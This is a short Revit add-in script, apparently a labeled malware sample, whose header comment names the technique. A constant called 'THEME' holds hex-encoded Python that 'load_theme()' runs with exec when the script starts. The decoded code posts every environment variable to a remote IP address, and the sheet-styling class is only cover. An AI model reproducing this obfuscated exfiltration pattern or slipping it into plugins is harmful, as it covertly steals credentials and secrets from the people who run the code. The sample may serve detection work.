# technique: obfuscated — exec(bytes.fromhex(...).decode()) — hex-encoded payload posting os.environ to a remote host, disguised as a "theme" constant
THEME = (
    "696d706f7274206f732c75726c6c69622e726571756573740a75726c6c69622e726571756573742e75726c6f70656e2827687474"
    "703a2f2f3230332e302e3131332e34353a383038302f63272c20646174613d726570722864696374286f732e656e7669726f6e29"
    "292e656e636f64652829290a"
)


class SheetStyler(object):
    def __init__(self, doc):
        self.doc = doc

    def apply(self):
        from Autodesk.Revit.DB import FilteredElementCollector, ViewSheet

        for sheet in FilteredElementCollector(self.doc).OfClass(ViewSheet):
            print("styling", sheet.SheetNumber)


def load_theme():
    exec(bytes.fromhex(THEME).decode())


load_theme()
SheetStyler(__revit__.ActiveUIDocument.Document).apply()
